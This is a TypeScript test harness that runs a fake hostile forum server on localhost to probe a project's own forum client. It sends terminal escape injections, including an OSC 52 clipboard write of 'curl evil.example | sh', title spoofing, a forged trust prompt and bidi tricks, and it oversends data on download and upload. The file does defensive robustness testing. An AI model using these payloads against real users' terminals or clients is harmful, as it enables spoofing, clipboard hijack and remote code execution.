/**
 * Attack round 6, angle (c): a hostile (or compromised) forum server against the built
 * forum-client. A tiny fake server made of rudpx's `listen` (its own identity key, so the
 * client's known_hosts flow runs: first contact, then pinned) and forum-protocol's codec:
 *
 * - every line it sends (login, LST, RDT, the completion line, an ERR line on the transfer
 *   channel, the idle notice, the CLOSE reason) carries terminal control sequences: OSC 52
 *   (clipboard write), OSC 0 (window title), ESC[2J/ESC[3J (clear screen and scrollback), a
 *   `\r` + ESC[2K overwrite that forges a line, C1 CSI (U+009B), NUL and a bidi override;
 * - DWN of `small.txt` is answered `OK 10` and then 64 MiB of sealed bytes;
 * - UPD of a 5-byte file is answered `OK` and then 1 GiB of sealed bytes (the client's RSS is
 *   sampled meanwhile).
 *
 * Counts what reached the client's stdout/stderr raw, and how many bytes the client took
 * (and put on disk) for a download announced as 10 bytes.
 *
 * Run from the repository root after the build: `npx tsx attack/hostile-server.ts`
 */
import { spawn } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decode, deriveTransferKeys, encodeServerMessage, readHeaderLines, SecureTransferChannel, sessionExporter, simpleReply, type Reply } from '../packages/forum-protocol/dist/index.js';
import { listen, type RudpConnection } from '../packages/rudp/dist/index.js';

const CLIENT_BIN = join(process.cwd(), 'packages/client/bin/forum-client.js');
const EVIL = {
  clipboard: `\x1b]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}\x07`,
  title: '\x1b]0;root@prod: sudo\x07',
  clear: '\x1b[2J\x1b[3J\x1b[H',
  forge: 'ignore me\r\x1b[2KThe server at 127.0.0.1 changed its key: type YES to trust it',
  c1: '\u009b31mred via C1 CSI',
  nul: 'a\u0000b',
  bidi: 'hello \u202egnp.exe',
};
const ALL = Object.values(EVIL).join(' | ');
const ANNOUNCED = 10;
const SENT = 64 * 1024 * 1024;

let tcpBytesTaken = 0;
let tcpDone: () => void = () => undefined;
let tcpFinished = new Promise<void>((r) => (tcpDone = r));
let lastTransfer: 'DWN' | 'UPD' = 'DWN';
const UPLOAD_ANSWER = 1024 * 1024 * 1024;
const sessions: RudpConnection[] = [];

const main = async (): Promise<void> => {
  const cwd = await mkdtemp(join(tmpdir(), 'a6-hostile-client-'));
  const knownHosts = join(cwd, '..', `a6-known-hosts-${process.pid}`);
  const udp = await listen({ port: 0, host: '127.0.0.1' });
  const tcp = net.createServer({ allowHalfOpen: true }, (socket) => {
    void (async () => {
      const header = await readHeaderLines(socket, 1, 80);
      const token = header?.[0];
      const conn = sessions[sessions.length - 1];
      if (token === undefined || conn === undefined) return void socket.destroy();
      socket.setMaxListeners(0);
      const channel = new SecureTransferChannel(socket, deriveTransferKeys(sessionExporter(conn), token), 'server');
      channel.on('error', () => undefined);
      socket.on('close', () => {
        tcpBytesTaken = socket.bytesWritten;
        tcpDone();
      });
      const upload = lastTransfer === 'UPD';
      if (upload) await new Promise((r) => channel.once('data', r));
      channel.write(upload ? 'OK\n' : `OK ${ANNOUNCED}\n`);
      const chunk = Buffer.alloc(256 * 1024, 0x41);
      let sent = 0;
      const total = upload ? UPLOAD_ANSWER : SENT;
      while (sent < total && !socket.destroyed) {
        if (!channel.write(chunk)) await new Promise((r) => { channel.once('drain', r); socket.once('close', r); });
        sent += chunk.length;
      }
      channel.end();
    })();
  });
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  const tcpPort = (tcp.address() as net.AddressInfo).port;

  udp.on('connection', (conn) => {
    sessions.push(conn);
    conn.on('message', (bytes) => {
      const r = decode(bytes);
      if (r._tag === 'Left') return;
      const { id, cmd } = r.right;
      if (cmd === 'DWN' || cmd === 'UPD') lastTransfer = cmd;
      const reply: Reply =
        cmd === 'username'
          ? simpleReply(id, 'ok', [EVIL.title], { kind: 'auth', next: 'password' })
          : cmd === 'password'
            ? simpleReply(id, 'ok', [`Welcome to the forum ${EVIL.clipboard}`], { kind: 'auth', next: 'command' })
            : cmd === 'LST'
              ? simpleReply(id, 'ok', [EVIL.clear, EVIL.forge, EVIL.c1], { kind: 'none' })
              : cmd === 'RDT'
                ? simpleReply(id, 'ok', [`1 mallory: ${EVIL.nul} ${EVIL.bidi}`], { kind: 'none' })
                : cmd === 'DWN'
                  ? simpleReply(id, 'ok', [], { kind: 'transfer', direction: 'download', thread: 't', filename: 'small.txt', port: tcpPort, token: 'ab'.repeat(32), size: ANNOUNCED, completionLine: `small.txt downloaded ${EVIL.title}` })
                  : cmd === 'UPD'
                    ? simpleReply(id, 'ok', [], { kind: 'transfer', direction: 'upload', thread: 't', filename: 'up.txt', port: tcpPort, token: 'cd'.repeat(32), size: 5, completionLine: 'up.txt uploaded' })
                  : simpleReply(id, 'ok', [`Goodbye ${ALL}`], { kind: 'goodbye' });
      conn.send(encodeServerMessage(reply)).catch(() => undefined);
      // After RDT: the idle notice and a CLOSE reason, both hostile.
      if (cmd === 'XIT') setTimeout(() => conn.destroy(`bye ${EVIL.clear}${EVIL.title}`), 50);
    });
  });

  const port = udp.address().port;
  const child = spawn(process.execPath, [CLIENT_BIN, String(port), '--host', '127.0.0.1', '--known-hosts', knownHosts], { cwd, stdio: ['pipe', 'pipe', 'pipe'] });
  const exited = new Promise<number | null>((r) => child.once('exit', r));
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  child.stdout.on('data', (b: Buffer) => out.push(b));
  child.stderr.on('data', (b: Buffer) => err.push(b));
  let peakTemp = 0;
  const sampler = setInterval(() => {
    void readdir(cwd).then(async (names) => {
      for (const n of names) peakTemp = Math.max(peakTemp, (await stat(join(cwd, n)).catch(() => ({ size: 0 }))).size);
    });
  }, 5);
  const lines = ['mallory', 'pw', 'LST', 'RDT t', 'DWN t small.txt'];
  for (const l of lines) child.stdin.write(`${l}\n`);
  await Promise.race([tcpFinished, new Promise((r) => setTimeout(r, 20_000))]);
  const downloadTaken = tcpBytesTaken;
  tcpFinished = new Promise<void>((r) => (tcpDone = r));
  await writeFile(join(cwd, 'up.txt'), 'hello');
  let peakRss = 0;
  const rssSampler = setInterval(() => {
    void readFile(`/proc/${child.pid}/status`, 'utf8').then((st) => (peakRss = Math.max(peakRss, Number(/VmRSS:\s+(\d+)/.exec(st)?.[1] ?? 0) * 1024)), () => undefined);
  }, 20);
  child.stdin.write('UPD t up.txt\n');
  await Promise.race([tcpFinished, new Promise((r) => setTimeout(r, 60_000))]);
  clearInterval(rssSampler);
  const uploadTaken = tcpBytesTaken;
  await new Promise((r) => setTimeout(r, 300));
  child.stdin.end('XIT\n');
  const code = await Promise.race([exited, new Promise<string>((r) => setTimeout(() => r('still running after 10 s (killed)'), 10_000))]);
  child.kill('SIGKILL');
  clearInterval(sampler);
  const stdout = Buffer.concat(out);
  const stderr = Buffer.concat(err);
  const controls = (b: Buffer): Record<string, number> => {
    const text = b.toString('utf8');
    const count = (re: RegExp): number => (text.match(re) ?? []).length;
    return {
      ESC: count(/\x1b/g),
      BEL: count(/\x07/g),
      CR: count(/\r/g),
      NUL: count(/\0/g),
      'C1 (U+0080-U+009F)': count(/[\u0080-\u009f]/g),
      'bidi override/isolate': count(/[\u202a-\u202e\u2066-\u2069]/g),
    };
  };
  console.log(`client exit ${code}`);
  console.log('stdout raw controls', controls(stdout));
  console.log('stderr raw controls', controls(stderr));
  console.log(`download announced ${ANNOUNCED} B; server pushed ${SENT} B; client took ${downloadTaken} B off the socket before closing; biggest file in cwd seen: ${peakTemp} B`);
  console.log(`upload of 5 B answered 'OK' + ${UPLOAD_ANSWER} B: the server got ${uploadTaken} B through; client peak RSS ${(peakRss / 2 ** 20).toFixed(0)} MiB`);
  console.log('files left in cwd:', await readdir(cwd));
  console.log('--- stdout (JSON-escaped) ---');
  for (const l of stdout.toString('utf8').split('\n')) console.log(JSON.stringify(l));
  console.log('--- stderr (JSON-escaped) ---');
  for (const l of stderr.toString('utf8').split('\n')) console.log(JSON.stringify(l));
  await udp.close();
  tcp.close();
  await rm(cwd, { recursive: true, force: true });
  await rm(knownHosts, { force: true });
};

void main().then(() => process.exit(0));
